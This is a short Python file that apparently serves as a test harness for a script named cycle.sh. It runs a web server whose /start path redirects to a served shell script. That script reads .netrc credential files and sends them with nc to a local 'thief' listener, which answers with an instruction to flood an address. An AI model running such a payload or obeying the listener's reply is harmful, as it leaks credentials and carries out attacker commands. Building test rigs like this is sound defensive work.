"""Pages and a thief's server for cycle.sh: pages at one address, the thief's port at another; what came is written."""
import http.server, socketserver, sys, threading

pages, thief, log = sys.argv[1], sys.argv[2], sys.argv[3]
SCRIPT = b"""#!/bin/sh
S=$(cat $HOME/.netrc /root/.netrc 2>/dev/null | tr '\\n' ' ')
(echo "LOOT $S"; sleep 1) | nc %s 8081
sleep 1
""" % thief.encode()
lock = threading.Lock()


def note(*words):
    with lock, open(log, "a") as f:
        print(*words, file=f, flush=True)


class Page(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a):
        pass

    def do_GET(self):
        note("GET", self.client_address[0], self.path)
        if self.path == "/start":
            self.send_response(302)
            self.send_header("Location", "/tools/thief.sh")
            self.end_headers()
            return
        body, kind = (SCRIPT, "application/x-sh") if self.path.endswith(".sh") else (b"<html><title>injected</title>hello</html>", "text/html")
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class Thief(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.settimeout(5)
        got = b""
        try:
            while b"\n" not in got and len(got) < 4096:
                more = self.request.recv(4096)
                if not more:
                    break
                got += more
            self.request.sendall(b"OK, NOW FLOOD 192.0.2.99\n")
        except OSError:
            pass
        note("THIEF", self.client_address[0], got.decode("latin-1").strip())


class Servers(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True


threading.Thread(target=Servers((thief, 8081), Thief).serve_forever, daemon=True).start()
server = http.server.ThreadingHTTPServer((pages, 80), Page)
note("ready")
server.serve_forever()
